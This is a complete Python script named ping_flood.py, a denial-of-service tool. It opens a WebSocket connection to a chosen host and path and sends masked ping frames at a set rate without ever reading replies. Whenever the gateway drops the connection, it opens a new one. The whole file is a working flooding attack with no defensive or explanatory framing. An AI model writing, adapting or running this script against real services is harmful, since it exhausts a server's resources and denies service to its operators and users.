"""Sends pings and reads nothing, until it is killed: python3 ping_flood.py HOST PORT TARGET PINGS_PER_SECOND

A connection that the gateway ends is followed by another.
"""

import socket
import sys
import time

PING = bytes([0x89, 0x81, 0, 0, 0, 0, 0x78])
BLOCKS_PER_SECOND = 100


def flood(address, target, pings_per_second):
    block = PING * (pings_per_second // BLOCKS_PER_SECOND)
    request = (
        f"GET {target} HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n").encode()
    due = time.monotonic()
    while True:
        try:
            with socket.create_connection(address) as connection:
                connection.sendall(request)
                while True:
                    connection.sendall(block)
                    due = max(due + 1 / BLOCKS_PER_SECOND, time.monotonic() - 1)
                    time.sleep(max(0, due - time.monotonic()))
        except ConnectionError:
            continue


flood((sys.argv[1], int(sys.argv[2])), sys.argv[3], int(sys.argv[4]))
